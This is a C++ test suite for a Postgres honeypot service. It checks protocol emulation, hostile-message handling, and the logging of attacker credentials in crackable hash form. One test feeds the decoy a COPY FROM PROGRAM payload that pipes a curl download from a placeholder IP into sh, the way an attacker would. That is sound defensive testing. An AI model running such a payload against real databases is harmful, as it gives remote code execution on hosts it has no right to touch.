// The postgres service byte for byte through FakeConnection: the startup packet (SSL/GSSENC/cancel,
// protocol versions), each auth mode with the credential it logs, the queries a client and an
// attacker send, the extended protocol, and hostile messages (huge/zero/truncated lengths, garbage,
// 10,000 startup parameters).
#include "decnet/services/db/postgres.h"

#include <gtest/gtest.h>
#include <sodium.h>

#include <cstring>
#include <random>

#include "decnet/decoy/testing.h"
#include "postgres_fuzz_entry.h"

namespace decnet::services::db {
namespace {

using decoy::testing::FakeConnection;
using decoy::testing::ParamOf;
using decoy::testing::TestDecky;

decoy::PersonaInputs Inputs(std::string auth, std::string users = "postgres:pw,alice:s3cret",
                            std::string version = "") {
  decoy::PersonaInputs in;
  if (!auth.empty()) in.settings["postgres"]["auth"] = std::move(auth);
  in.settings["postgres"]["users"] = std::move(users);
  if (!version.empty()) in.settings["postgres"]["version"] = std::move(version);
  in.distro = "debian";
  return in;
}

std::string Be32(uint32_t v) {
  return {static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8),
          static_cast<char>(v)};
}
uint32_t Get32(std::string_view s, size_t at) {
  return (uint32_t(uint8_t(s[at])) << 24) | (uint32_t(uint8_t(s[at + 1])) << 16) |
         (uint32_t(uint8_t(s[at + 2])) << 8) | uint8_t(s[at + 3]);
}
std::string Packet(uint32_t code, std::string_view params) {
  return Be32(8 + params.size()) + Be32(code) + std::string(params);
}
std::string Startup(std::string_view user, std::string_view extra = {}) {
  std::string p = "user";
  p.push_back('\0');
  p += user;
  p.push_back('\0');
  static const char kRest[] = "database\0shop\0application_name\0psql";
  p += std::string(kRest, sizeof kRest);
  p += extra;
  p.push_back('\0');
  return Packet(196608, p);
}
std::string Msg(char type, std::string_view body) {
  return std::string(1, type) + Be32(body.size() + 4) + std::string(body);
}
std::string Z(std::string_view s) { return std::string(s) + std::string(1, '\0'); }

struct M {
  char type;
  std::string body;
};
// Splits backend output into messages (the lone 'N' of an SSL answer is not one).
std::vector<M> Parse(std::string_view out) {
  std::vector<M> v;
  while (out.size() >= 5) {
    const uint32_t len = Get32(out, 1);
    if (len < 4 || out.size() < len + 1) break;
    v.push_back({out[0], std::string(out.substr(5, len - 4))});
    out.remove_prefix(len + 1);
  }
  return v;
}
std::string Types(const std::vector<M>& v) {
  std::string t;
  for (const auto& m : v) t.push_back(m.type);
  return t;
}
// The field `f` of an ErrorResponse body.
std::string Field(const std::string& body, char f) {
  for (size_t at = 0; at < body.size() && body[at];) {
    const size_t end = body.find('\0', at);
    if (body[at] == f) return body.substr(at + 1, end - at - 1);
    at = end + 1;
  }
  return "";
}
std::vector<std::string> Columns(const std::vector<M>& v, size_t row = 0) {
  size_t seen = 0;
  for (const auto& m : v) {
    if (m.type != 'D' || seen++ != row) continue;
    std::vector<std::string> out;
    size_t at = 2;
    while (at + 4 <= m.body.size()) {
      const uint32_t n = Get32(m.body, at);
      out.push_back(m.body.substr(at + 4, n));
      at += 4 + n;
    }
    return out;
  }
  return {};
}
std::string B64(std::string_view bin) {
  std::string out(sodium_base64_ENCODED_LEN(bin.size(), sodium_base64_VARIANT_ORIGINAL), '\0');
  sodium_bin2base64(out.data(), out.size(), reinterpret_cast<const unsigned char*>(bin.data()),
                    bin.size(), sodium_base64_VARIANT_ORIGINAL);
  out.resize(std::strlen(out.c_str()));
  return out;
}
std::string UnB64(std::string_view t) {
  std::string out(t.size(), '\0');
  size_t len = 0;
  sodium_base642bin(reinterpret_cast<unsigned char*>(out.data()), out.size(), t.data(), t.size(),
                    nullptr, &len, nullptr, sodium_base64_VARIANT_ORIGINAL);
  out.resize(len);
  return out;
}

struct Client {
  explicit Client(decoy::PersonaInputs in)
      : decky(std::move(in)), svc(MakePostgres(*decky.decky)), conn(*decky.decky, 5432) {
    session = svc->NewSession(conn);
    session->OnOpen();
  }
  ~Client() { session->OnClose(decoy::CloseReason::kPeer); }
  std::string Send(std::string_view bytes) {
    session->OnData(bytes);
    return conn.Take();
  }
  std::vector<M> SendM(std::string_view bytes) { return Parse(Send(bytes)); }
  // Logs in over cleartext (the persona must be in cleartext mode).
  void Login(std::string_view user = "postgres", std::string_view pw = "pw") {
    ASSERT_EQ(Types(SendM(Startup(user))), "R");
    const auto ok = SendM(Msg('p', Z(pw)));
    ASSERT_FALSE(ok.empty());
    ASSERT_EQ(ok[0].type, 'R') << Field(ok[0].body, 'M');
  }
  std::vector<M> Query(std::string_view q) { return SendM(Msg('Q', Z(q))); }
  TestDecky decky;
  std::unique_ptr<decoy::Service> svc;
  FakeConnection conn;
  std::unique_ptr<decoy::Session> session;
};

TEST(PostgresMd5, KnownVectorsAndResponse) {
  EXPECT_EQ(PgMd5Hex(""), "d41d8cd98f00b204e9800998ecf8427e");
  EXPECT_EQ(PgMd5Hex("abc"), "900150983cd24fb0d6963f7d28e17f72");
  EXPECT_EQ(PgMd5Hex("The quick brown fox jumps over the lazy dog"),
            "9e107d9d372bb6826bd81d3542a419d6");
  EXPECT_EQ(PgMd5Hex(std::string(64, 'a')), "014842d480b571495a4a0363793f7367");
  // pg_authid's md5 form of ("postgres", "postgres"), as `SELECT 'md5' || md5('postgrespostgres')`
  // gives.
  EXPECT_EQ("md5" + PgMd5Hex("postgrespostgres"), "md53175bce1d3201d16594cebf9d7eb3f9d");
}

TEST(PostgresStartup, SslAndGssRefusedThenCleartextLogin) {
  Client c(Inputs("cleartext"));
  EXPECT_EQ(c.Send(Packet(80877103, "")), "N");
  EXPECT_EQ(c.Send(Packet(80877104, "")), "N");
  auto r = c.SendM(Startup("alice"));
  ASSERT_EQ(Types(r), "R");
  EXPECT_EQ(Get32(r[0].body, 0), 3u);  // AuthenticationCleartextPassword
  auto ok = c.SendM(Msg('p', Z("s3cret")));
  EXPECT_EQ(Types(ok), "RSSSSSSSSSSSSSKZ");
  EXPECT_EQ(Get32(ok[0].body, 0), 0u);
  bool version = false;
  for (const auto& m : ok)
    version |= m.body == std::string(
                             "server_version\0"
                             "15.10 (Debian 15.10-0+deb12u1)\0",
                             46);
  EXPECT_TRUE(version);
  EXPECT_EQ(ok.back().body, "I");
  const auto st = c.decky.Events("startup");
  ASSERT_EQ(st.size(), 1u);
  EXPECT_EQ(ParamOf(st[0], "user"), "alice");
  EXPECT_EQ(ParamOf(st[0], "database"), "shop");
  EXPECT_EQ(ParamOf(st[0], "application_name"), "psql");
  const auto auth = c.decky.Events("auth");
  ASSERT_EQ(auth.size(), 1u);
  EXPECT_EQ(ParamOf(auth[0], "secret_b64"), "czNjcmV0");
  EXPECT_EQ(ParamOf(auth[0], "secret_kind"), "plaintext");
  EXPECT_EQ(ParamOf(auth[0], "success"), "true");
}

TEST(PostgresStartup, WrongPasswordIsTheServersFatal) {
  Client c(Inputs("cleartext"));
  c.Send(Startup("bob"));
  auto e = c.SendM(Msg('p', Z("t\xc3\xabst")));
  ASSERT_EQ(Types(e), "E");
  EXPECT_EQ(Field(e[0].body, 'S'), "FATAL");
  EXPECT_EQ(Field(e[0].body, 'V'), "FATAL");
  EXPECT_EQ(Field(e[0].body, 'C'), "28P01");
  EXPECT_EQ(Field(e[0].body, 'M'), "password authentication failed for user \"bob\"");
  EXPECT_EQ(Field(e[0].body, 'R'), "auth_failed");
  EXPECT_TRUE(c.conn.closed);
  const auto auth = c.decky.Events("auth");
  ASSERT_EQ(auth.size(), 1u);
  EXPECT_EQ(ParamOf(auth[0], "secret_b64"), "dMOrc3Q=");
  EXPECT_EQ(ParamOf(auth[0], "success"), "false");
}

TEST(PostgresStartup, OldVersionsHaveNoVField) {
  Client c(Inputs("cleartext", "postgres:pw", "9.2.24"));
  c.Send(Startup("x"));
  auto e = c.SendM(Msg('p', Z("no")));
  ASSERT_EQ(Types(e), "E");
  EXPECT_EQ(Field(e[0].body, 'S'), "FATAL");
  EXPECT_EQ(Field(e[0].body, 'V'), "");
}

TEST(PostgresStartup, OtherProtocolVersionsCancelAndMissingUser) {
  {
    Client c(Inputs(""));
    auto e = c.SendM(Packet(0x00020000, std::string("user\0x\0\0", 8)));
    ASSERT_EQ(Types(e), "E");
    EXPECT_EQ(Field(e[0].body, 'C'), "0A000");
    EXPECT_EQ(Field(e[0].body, 'M'),
              "unsupported frontend protocol 2.0: server supports 3.0 to 3.0");
    EXPECT_TRUE(c.conn.closed);
  }
  {
    Client c(Inputs("", "", "12.22"));
    auto e = c.SendM(Packet(0x00040000, std::string("\0", 1)));
    EXPECT_EQ(Field(e[0].body, 'M'),
              "unsupported frontend protocol 4.0: server supports 2.0 to 3.0");
  }
  {
    Client c(Inputs(""));
    EXPECT_EQ(c.Send(Be32(16) + Be32(80877102) + Be32(1234) + Be32(5678)), "");
    EXPECT_TRUE(c.conn.closed);
    EXPECT_EQ(c.decky.Events("cancel_request").size(), 1u);
  }
  {
    Client c(Inputs(""));
    auto e = c.SendM(Packet(196608, std::string("database\0x\0\0", 12)));
    EXPECT_EQ(Field(e[0].body, 'C'), "28000");
    EXPECT_TRUE(c.conn.closed);
  }
  {  // 3.2 with a _pq_ option: NegotiateProtocolVersion, then the login continues
    Client c(Inputs("cleartext"));
    auto r = c.SendM(Packet(0x00030002, std::string("user\0x\0_pq_.foo\0"
                                                    "1\0\0",
                                                    19)));
    ASSERT_EQ(Types(r), "vR");
    EXPECT_EQ(Get32(r[0].body, 0), 0u);
    EXPECT_EQ(Get32(r[0].body, 4), 1u);
  }
}

TEST(PostgresAuth, DefaultsFollowTheVersion) {
  Client debian(Inputs(""));
  EXPECT_EQ(Get32(debian.SendM(Startup("a"))[0].body, 0), 10u);  // SASL on 15
  Client focal(Inputs("", "", "12.22"));
  EXPECT_EQ(Get32(focal.SendM(Startup("a"))[0].body, 0), 5u);  // md5 on 12
}

TEST(PostgresAuth, Md5CapturedInHashcatFormAndVerified) {
  for (const bool right : {true, false}) {
    Client c(Inputs("md5"));
    auto r = c.SendM(Startup("alice"));
    ASSERT_EQ(Types(r), "R");
    ASSERT_EQ(Get32(r[0].body, 0), 5u);
    const std::string salt = r[0].body.substr(4, 4);
    const std::string resp = PgMd5Response("alice", right ? "s3cret" : "nope", salt);
    auto out = c.SendM(Msg('p', Z(resp)));
    ASSERT_FALSE(out.empty());
    EXPECT_EQ(out[0].type, right ? 'R' : 'E');
    const auto auth = c.decky.Events("auth");
    ASSERT_EQ(auth.size(), 1u);
    static const char kHex[] = "0123456789abcdef";
    std::string salt_hex;
    for (unsigned char ch : salt) salt_hex += {kHex[ch >> 4], kHex[ch & 15]};
    const std::string want = "$postgres$alice*" + salt_hex + "*" + resp.substr(3);
    EXPECT_EQ(ParamOf(auth[0], "secret_b64"), B64(want));
    EXPECT_EQ(ParamOf(auth[0], "secret_kind"), "hash");
    EXPECT_EQ(ParamOf(auth[0], "success"), right ? "true" : "false");
  }
}

// A SCRAM-SHA-256 client as libpq runs it; returns the backend's answer to client-final.
std::vector<M> Scram(Client& c, std::string_view password, std::string* auth_message,
                     std::string* salt) {
  auto r = c.SendM(Startup("alice"));
  EXPECT_EQ(Get32(r[0].body, 0), 10u);
  EXPECT_EQ(r[0].body.substr(4), std::string("SCRAM-SHA-256\0\0", 15));
  const std::string first_bare = "n=,r=rOprNGfwEbeRWgbNEkqO";
  std::string init = Z("SCRAM-SHA-256") + Be32(3 + first_bare.size()) + "n,," + first_bare;
  auto cont = c.SendM(Msg('p', init));
  EXPECT_EQ(Types(cont), "R");
  EXPECT_EQ(Get32(cont[0].body, 0), 11u);
  const std::string server_first = cont[0].body.substr(4);
  EXPECT_EQ(server_first.rfind("r=rOprNGfwEbeRWgbNEkqO", 0), 0u) << server_first;
  const size_t s = server_first.find(",s="), i = server_first.find(",i=");
  *salt = UnB64(server_first.substr(s + 3, i - s - 3));
  EXPECT_EQ(server_first.substr(i + 3), "4096");
  const std::string without_proof = "c=biws," + server_first.substr(0, s);
  *auth_message = first_bare + "," + server_first + "," + without_proof;
  const std::string proof = PgScramProof(password, *salt, 4096, *auth_message);
  return c.SendM(Msg('p', without_proof + ",p=" + B64(proof)));
}

TEST(PostgresAuth, ScramProofVerifiedAndCapturedForOfflineAttack) {
  std::string am, salt;
  {
    Client c(Inputs("scram-sha-256"));
    auto out = Scram(c, "s3cret", &am, &salt);
    ASSERT_GE(out.size(), 3u);
    EXPECT_EQ(Get32(out[0].body, 0), 12u);  // SASLFinal with the server signature
    EXPECT_EQ(out[0].body.substr(4, 2), "v=");
    EXPECT_EQ(Get32(out[1].body, 0), 0u);
    EXPECT_EQ(ParamOf(c.decky.Events("auth")[0], "success"), "true");
  }
  Client c(Inputs("scram-sha-256"));
  auto out = Scram(c, "wrong", &am, &salt);
  ASSERT_EQ(Types(out), "E");
  EXPECT_EQ(Field(out[0].body, 'C'), "28P01");
  const auto auth = c.decky.Events("auth");
  ASSERT_EQ(auth.size(), 1u);
  EXPECT_EQ(ParamOf(auth[0], "secret_kind"), "hash");
  // The captured line holds everything a cracker needs: a candidate is right iff its proof matches.
  const std::string hash = UnB64(ParamOf(auth[0], "secret_b64"));
  std::vector<std::string> f;
  for (size_t at = 1, end; at <= hash.size(); at = end + 1) {
    end = hash.find('$', at);
    if (end == std::string::npos) end = hash.size();
    f.push_back(hash.substr(at, end - at));
  }
  ASSERT_EQ(f.size(), 5u) << hash;
  EXPECT_EQ(f[0], "scram-sha-256");
  EXPECT_EQ(f[1], "4096");
  EXPECT_EQ(UnB64(f[2]), salt);
  EXPECT_EQ(UnB64(f[3]), am);
  EXPECT_EQ(PgScramProof("wrong", UnB64(f[2]), 4096, UnB64(f[3])), UnB64(f[4]));
  EXPECT_NE(PgScramProof("s3cret", UnB64(f[2]), 4096, UnB64(f[3])), UnB64(f[4]));
  // The salt is the user's on this persona: the same on every connection.
  std::string am2, salt2;
  Client again(Inputs("scram-sha-256"));
  Scram(again, "x", &am2, &salt2);
  EXPECT_EQ(salt2, salt);
}

TEST(PostgresQuery, VersionShowUserAndTables) {
  Client c(Inputs("cleartext"));
  c.Login();
  auto v = c.Query("SELECT version();");
  EXPECT_EQ(Types(v), "TDCZ");
  EXPECT_EQ(Columns(v)[0],
            "PostgreSQL 15.10 (Debian 15.10-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc "
            "(Debian 12.2.0-14) 12.2.0, 64-bit");
  EXPECT_EQ(v[2].body, Z("SELECT 1"));
  EXPECT_EQ(Columns(c.Query("SHOW server_version"))[0], "15.10 (Debian 15.10-0+deb12u1)");
  EXPECT_EQ(Columns(c.Query("select current_user"))[0], "postgres");
  EXPECT_EQ(Columns(c.Query("SHOW server_version_num"))[0], "150010");
  auto users = c.Query("SELECT * FROM public.users");
  EXPECT_EQ(Types(users), "TDDDCZ");
  EXPECT_EQ(Columns(users, 0)[1], "admin");
  auto missing = c.Query("SELECT * FROM secrets");
  ASSERT_EQ(Types(missing), "EZ");
  EXPECT_EQ(Field(missing[0].body, 'C'), "42P01");
  EXPECT_EQ(Field(missing[0].body, 'M'), "relation \"secrets\" does not exist");
  EXPECT_EQ(Field(missing[0].body, 'P'), "15");
  auto bad = c.Query("SELEKT 1");
  EXPECT_EQ(Field(bad[0].body, 'C'), "42601");
  EXPECT_EQ(Field(bad[0].body, 'M'), "syntax error at or near \"SELEKT\"");
  EXPECT_EQ(Field(bad[0].body, 'S'), "ERROR");
  EXPECT_EQ(Types(c.Query("")), "IZ");
  EXPECT_EQ(c.decky.Events("query").size(), 8u);  // every statement, the empty one too
}

TEST(PostgresQuery, PsqlListDatabasesAndTables) {
  Client c(Inputs("cleartext"));
  c.Login();
  // psql 15's \l
  auto l = c.Query(
      "SELECT\n  d.datname as \"Name\",\n  pg_catalog.pg_get_userbyid(d.datdba) as \"Owner\",\n"
      "  pg_catalog.pg_encoding_to_char(d.encoding) as \"Encoding\",\n  d.datcollate as "
      "\"Collate\",\n"
      "  d.datctype as \"Ctype\",\n  pg_catalog.array_to_string(d.datacl, E'\\n') AS \"Access "
      "privileges\"\n"
      "FROM pg_catalog.pg_database d\nORDER BY 1;");
  ASSERT_GE(l.size(), 6u);
  EXPECT_EQ(l[0].type, 'T');
  bool template0 = false;
  for (size_t i = 0; i < 4; ++i) {
    const auto row = Columns(l, i);
    ASSERT_EQ(row.size(), 6u);
    if (row[0] == "template0") template0 = row[5] == "=c/postgres\npostgres=CTc/postgres";
  }
  EXPECT_TRUE(template0);
  auto dt = c.Query(
      "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN "
      "'table' END as "
      "\"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class "
      "c\n     LEFT "
      "JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relkind IN "
      "('r','p','')\nORDER BY 1,2;");
  EXPECT_EQ(Columns(dt, 0), (std::vector<std::string>{"public", "users", "table", "postgres"}));
}

TEST(PostgresQuery, CopyFromProgramAndDdlLogged) {
  Client c(Inputs("cleartext"));
  c.Login();
  auto r = c.Query(
      "DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM "
      "PROGRAM 'id; curl http://198.51.100.9/x | sh'; SELECT * FROM cmd_exec;");
  EXPECT_EQ(Types(r), "CCCTCZ");
  EXPECT_EQ(r[0].body, Z("DROP TABLE"));
  EXPECT_EQ(r[1].body, Z("CREATE TABLE"));
  EXPECT_EQ(r[2].body, Z("COPY 0"));
  const auto rce = c.decky.Events("copy_program");
  ASSERT_EQ(rce.size(), 1u);
  EXPECT_EQ(ParamOf(rce[0], "command"), "id; curl http://198.51.100.9/x | sh");
  EXPECT_EQ(c.decky.Events("ddl").size(), 2u);
  EXPECT_EQ(c.decky.Events("query").size(), 4u);
  // Not a superuser: the server's refusal, still logged.
  Client a(Inputs("cleartext"));
  a.Login("alice", "s3cret");
  auto e = a.Query("COPY t FROM PROGRAM 'whoami'");
  EXPECT_EQ(Field(e[0].body, 'C'), "42501");
  EXPECT_EQ(ParamOf(a.decky.Events("copy_program")[0], "command"), "whoami");
}

TEST(PostgresQuery, ExtendedProtocolAnswered) {
  Client c(Inputs("cleartext"));
  c.Login();
  std::string x = Msg('P', Z("") + Z("SELECT version()") + std::string(2, '\0')) +
                  Msg('B', Z("") + Z("") + std::string(6, '\0')) + Msg('D', "P" + Z("")) +
                  Msg('E', Z("") + Be32(0)) + Msg('S', "");
  EXPECT_EQ(Types(c.SendM(x)), "12TDCZ");
  // An error skips to Sync, which answers ReadyForQuery.
  auto e = c.SendM(Msg('B', Z("") + Z("nosuch") + std::string(6, '\0')) +
                   Msg('E', Z("") + Be32(0)) + Msg('S', ""));
  EXPECT_EQ(Types(e), "EZ");
  EXPECT_EQ(Field(e[0].body, 'C'), "26000");
  c.Send(Msg('X', ""));
  EXPECT_TRUE(c.conn.closed);
}

TEST(PostgresHostile, StartupLengths) {
  for (uint32_t len : {0x80000000u, 0u, 7u, 10001u}) {
    Client c(Inputs(""));
    EXPECT_EQ(c.Send(Be32(len) + Be32(196608)), "") << len;
    EXPECT_TRUE(c.conn.closed) << len;
  }
  Client c(Inputs("cleartext"));
  const std::string s = Startup("alice");
  EXPECT_EQ(c.Send(s.substr(0, s.size() - 3)), "");  // truncated: waits for the rest
  EXPECT_FALSE(c.conn.closed);
  EXPECT_EQ(Types(c.SendM(s.substr(s.size() - 3))), "R");
}

TEST(PostgresHostile, TenThousandParametersAndBadLayout) {
  std::string many;
  for (int i = 0; i < 10000; ++i) many += std::string("a\0b\0", 4);
  {
    Client c(Inputs(""));  // 40 KB: over the startup packet bound
    EXPECT_EQ(c.Send(Packet(196608, many + std::string(1, '\0'))), "");
    EXPECT_TRUE(c.conn.closed);
  }
  {
    Client c(Inputs(""));  // within the packet bound but over the parameter count
    EXPECT_EQ(c.Send(Packet(196608, many.substr(0, 4 * 100) + std::string(1, '\0'))), "");
    EXPECT_TRUE(c.conn.closed);
  }
  {
    Client c(Inputs(""));
    auto e = c.SendM(Packet(196608, std::string("user\0x", 6)));
    EXPECT_EQ(Field(e[0].body, 'C'), "08P01");
    EXPECT_TRUE(c.conn.closed);
  }
}

TEST(PostgresHostile, AfterLoginLengthsAndGarbage) {
  {
    Client c(Inputs("cleartext"));
    c.Login();
    auto e = c.SendM(std::string("Q") + Be32(0x80000000u));
    EXPECT_EQ(Field(e[0].body, 'M'), "invalid message length");
    EXPECT_TRUE(c.conn.closed);
  }
  {
    Client c(Inputs("cleartext"));
    c.Login();
    auto e = c.SendM(std::string("Q") + Be32(2));
    EXPECT_EQ(Field(e[0].body, 'C'), "08P01");
  }
  {
    Client c(Inputs("cleartext"));
    c.Login();
    auto e = c.SendM(Msg('!', "junk"));
    EXPECT_EQ(Field(e[0].body, 'M'), "invalid frontend message type 33");
    EXPECT_TRUE(c.conn.closed);
  }
  {  // a Query without its NUL and a password message out of turn
    Client c(Inputs("cleartext"));
    c.Login();
    EXPECT_EQ(Types(c.SendM(Msg('Q', "SELECT 1"))), "TDCZ");
    auto e = c.SendM(Msg('p', Z("again")));
    EXPECT_EQ(Field(e[0].body, 'C'), "08P01");
  }
  {  // a password phase message of the wrong type
    Client c(Inputs("md5"));
    c.Send(Startup("alice"));
    auto e = c.SendM(Msg('Q', Z("SELECT 1")));
    EXPECT_EQ(Field(e[0].body, 'C'), "08P01");
    EXPECT_TRUE(c.conn.closed);
  }
}

TEST(PostgresHostile, FuzzEntryOnRandomAndSeededInput) {
  std::mt19937 rng(42);
  for (int i = 0; i < 60; ++i) {
    std::string junk(rng() % 600, '\0');
    for (char& ch : junk) ch = static_cast<char>(rng());
    fuzz::PostgresBytes(reinterpret_cast<const uint8_t*>(junk.data()), junk.size());
  }
  const std::string seeds[] = {
      Packet(80877103, "") + Startup("postgres") + Msg('p', Z("pw")) +
          Msg('Q', Z("SELECT * FROM users; SHOW x")),
      Msg('Q', Z("COPY a FROM PROGRAM 'id'")) + Msg('P', Z("s") + Z("SELECT 1")) +
          Msg('B', Z("") + Z("s")) + Msg('D', "S" + Z("s")) + Msg('E', Z("")) + Msg('S', ""),
      Startup("alice") + Msg('p', Z("SCRAM-SHA-256") + Be32(9) + "n,,n=,r=x") +
          Msg('p', "c=biws,r=x,p=AAAA"),
      std::string("Q") + Be32(0x7fffffff),
  };
  for (const auto& s : seeds)
    fuzz::PostgresBytes(reinterpret_cast<const uint8_t*>(s.data()), s.size());
}

}  // namespace
}  // namespace decnet::services::db
